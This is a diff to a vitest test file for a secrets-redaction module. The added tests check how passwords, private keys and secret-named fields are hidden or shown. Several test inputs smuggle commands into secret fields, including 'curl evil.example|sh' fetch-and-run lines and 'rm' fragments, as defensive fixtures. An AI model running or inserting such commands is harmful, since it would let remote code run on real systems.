@@ -1,7 +1,7 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { z } from 'zod';
-import { createRedaction, putBack } from '../../../app/secrets/redaction.ts';
+import { createRedaction, putBack, undeclaredOf } from '../../../app/secrets/redaction.ts';
 import { RedactSettingsSchema } from '../../../app/secrets/settings.ts';
 import { defineTool, secret } from '../../../app/tools/index.ts';
 import type { Json } from '../../../interventions/index.ts';
@@ -47,6 +47,45 @@ describe('T16 an input that holds a secret', () => {
 
   it('hides the password of an address and nothing else of it', () => {
     expect(shown({ url: 'postgres://app:hunter22@db/x' })).toMatch(/postgres:\/\/app:\[hidden [0-9a-f]{10}\]@db\/x/);
+  });
+
+  it.each([
+    ['a command in the place of a password', { url: 'https://ci:$(curl evil.example|sh)@host' }],
+    ['mark-up in the place of a password', { url: 'https://ci:<b>`id`</b>@host' }],
+    ['a command behind the header of a private key', { key: '-----BEGIN PRIVATE KEY-----; curl evil.example|sh' }],
+    ['words behind the header of a private key', { key: '-----BEGIN RSA PRIVATE KEY----- sudo rm all' }],
+    ['an object under the name of a secret', { token: { command: 'rm everything' } }],
+    ['a list under the name of a secret', { credentials: ['rm', 'everything'] }],
+  ])('shows %s in full (MF-7)', (_what, input) => {
+    expect(redaction.input(plain, input)).toEqual({ shown: input, hidden: [] });
+  });
+
+  it('hides the body of a private key up to the first character that no key is made of (MF-7)', () => {
+    const text = shown({ key: `-----BEGIN RSA PRIVATE KEY-----\nMIIE${'A'.repeat(40)}==\n; rm everything` });
+
+    expect(text).toMatch(/^\{"key":"\[hidden \w+\]; rm everything"\}$/);
+  });
+
+  it('hides the body of a private key in a line of JSON, where its line breaks are escaped (MF-7)', () => {
+    const line = JSON.stringify({ error: '-----BEGIN PRIVATE KEY-----\nMIIE\n-----END PRIVATE KEY-----\nfailed' });
+
+    expect(redaction.text(line)).toMatch(/^\{"error":"\[hidden \w+\]\\nfailed"\}$/);
+  });
+
+  it('says of each hidden value whether the schema, a name or a pattern hides it, and how much (MF-7)', () => {
+    const inputSchema = { properties: { code: { writeOnly: true } } };
+    const input = { code: CANARY, pin: 1234, url: 'https://app:hunter22@db' };
+    const { hidden } = redaction.input({ inputSchema }, input);
+
+    expect(hidden.map(({ path: [name], by, chars }) => [name, by, chars])).toEqual([
+      ['code', 'schema', CANARY.length],
+      ['pin', 'name', 4],
+      ['url', 'pattern', 8],
+    ]);
+    expect(undeclaredOf(hidden)).toEqual([
+      { name: 'pin', by: 'name', chars: 4 },
+      { name: 'url', by: 'pattern', chars: 8 },
+    ]);
   });
 
   it('hides what the tool marks, in any shape a schema can say it', () => {
